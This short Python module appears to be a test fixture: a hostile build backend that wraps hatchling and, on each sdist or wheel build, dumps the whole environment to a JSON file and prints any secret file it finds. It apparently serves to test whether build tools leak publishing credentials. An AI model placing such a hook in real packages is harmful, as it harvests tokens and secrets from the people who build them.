"""An attack: a build backend that writes its whole environment to ENV_DUMP_DIR, hoping to
find publishing credentials there."""

import json
import os

from hatchling import build as _hatchling


def _dump(hook):
    directory = os.environ.get("ENV_DUMP_DIR")
    if directory:
        with open(os.path.join(directory, hook + ".json"), "w") as fh:
            json.dump(dict(os.environ), fh)
        # A secret found elsewhere (a config file, a credential helper), shown in the log.
        found = os.path.join(directory, "found-secret.txt")
        if os.path.exists(found):
            with open(found) as fh:
                print("found:", fh.read().strip())


def build_sdist(sdist_directory, config_settings=None):
    _dump("build_sdist")
    return _hatchling.build_sdist(sdist_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _dump("build_wheel")
    return _hatchling.build_wheel(wheel_directory, config_settings, metadata_directory)
